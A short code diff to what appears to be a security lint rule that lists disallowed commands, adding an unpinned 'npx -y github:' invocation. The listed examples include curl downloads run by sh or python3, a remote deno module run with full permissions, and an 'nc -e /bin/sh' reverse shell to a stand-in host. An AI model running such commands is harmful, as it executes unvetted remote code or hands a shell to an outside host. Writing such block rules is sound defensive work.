@@ -59,6 +59,7 @@ export default defineRule({
       { run: 'curl -o i.sh https://get.example.com/i.sh && sh i.sh' },
       { run: 'curl -s https://get.example.com/i.py | python3' },
       { run: 'deno run -A https://get.example.com/mod.ts' },
+      { run: 'npx -y github:owner/tool', why: 'a repository is no registry: nothing has a fixed version' },
       { run: 'nc -e /bin/sh example.com 4444' },
     ],
     allows: [
